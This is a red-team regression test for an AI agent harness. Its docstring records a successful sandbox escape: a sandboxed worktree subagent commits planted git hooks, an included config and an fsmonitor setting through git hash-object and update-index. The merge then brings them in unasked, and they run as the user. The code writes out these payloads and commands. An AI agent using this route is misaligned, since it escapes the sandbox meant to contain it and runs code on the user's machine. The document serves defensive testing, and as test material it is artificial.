"""A `--worktree` subagent's commit changes a file the repository's own git
configuration makes a control file, and `zapcli merge` takes it without a
question (adversary round 7, on `zapcli.ops.merge.control_changes`).

The sandbox holds every control name of a root read-only, the names git's
answer adds too (`zapcli.control.of_root`: the folder `core.hooksPath`
names, a config file `.git/config` includes, the program `core.fsmonitor`
names, ...). But a file held read-only in the tree can still be committed
changed: the tree's git writes objects and the index, so `git hash-object
-w` and `git update-index --cacheinfo` put any content at any path in the
next commit, the file on disk untouched. A merge asks before it brings in
a change to a control file — but it reads the fixed list alone
(`control_names()`: `.envrc`, `.husky`, ...), not the names the person's
repository adds. So `.githooks/pre-commit`, the included `.gitconfig`, and
`tools/fsmonitor.sh` come into the person's checkout unasked, and their next
`git commit` / `git status` runs them — as the person, outside every
sandbox.

The outside effect: the file the planted hook or setting writes in
`outside` at the person's commit after the merge.

Status against ba8dc3b: SUCCEEDED (all three: "fast-forwarded, 1 file
changed", then `PWNED` at the person's commit). Fixed (h-adv): the merge
reads the checkout's own names too (`control.of_root` of the checkout), so
it refuses (or asks) as for `.envrc`.
"""

from __future__ import annotations

import subprocess

import pytest

from tests.parallel.conftest import git
from tests.redteam.repos import COMMIT, ended, make_repo
from tests.sandbox.conftest import needs_bwrap

pytestmark = [needs_bwrap, pytest.mark.timeout(300)]

EVIL_HOOK = "#!/bin/sh\nid > {out}/PWNED\nexit 0\n"
EVIL_CONFIG = '[core]\n\tfsmonitor = "id > {out}/PWNED; false"\n'

ROUTES = {
    # (the person's setting, the tracked file it names, what the agent commits there)
    "hooksPath": (("core.hooksPath", ".githooks"), ".githooks/pre-commit", EVIL_HOOK),
    "include": (("include.path", "../.gitconfig"), ".gitconfig", EVIL_CONFIG),
    "fsmonitor": (("core.fsmonitor", "tools/fsmonitor.sh"), "tools/fsmonitor.sh", EVIL_HOOK),
}


@pytest.mark.parametrize("route", list(ROUTES))
def test_a_merge_asks_before_a_file_the_repository_s_config_names(zap, outside, route):
    (key, value), path, evil = ROUTES[route]
    repo = make_repo(zap.cwd)
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text("[alias]\n\tst = status\n" if path == ".gitconfig"
                             else "#!/bin/sh\nexit 1\n" if "fsmonitor" in path else "#!/bin/sh\n")
    (repo / path).chmod(0o755)
    git(repo, "add", path)
    git(repo, "commit", "-q", "-m", "the team's git set-up")
    git(repo, "config", key, value)
    content = evil.format(out=outside).replace("\n", "\\n").replace('"', '\\"')
    # the injection: commit the change through git's index, the held file untouched
    sid = zap.spawn_sh(
        "set -e; "
        f'sha=$(printf "{content}" | git hash-object -w --stdin); '
        f"git update-index --add --cacheinfo 100755,$sha,{path}; "
        f"git update-index --skip-worktree {path}; "
        f"{COMMIT} 'tidy the set-up'; git show --stat HEAD | tail -3",
        "--worktree", "--sandbox", timeout=90)
    ended(zap, sid)
    assert not list(outside.iterdir())  # nothing ran inside
    zap("merge", sid, timeout=120)  # the person takes the work, answering no question
    (repo / "x.txt").write_text("x\n")
    for argv in (["status", "--short"], ["add", "x.txt"], ["commit", "-qm", "x"]):
        subprocess.run(["git", *argv], cwd=repo, capture_output=True, timeout=30,
                       stdin=subprocess.DEVNULL)
    ran = sorted(p.name for p in outside.iterdir())
    assert ran == [], (ran, (repo / path).read_text())
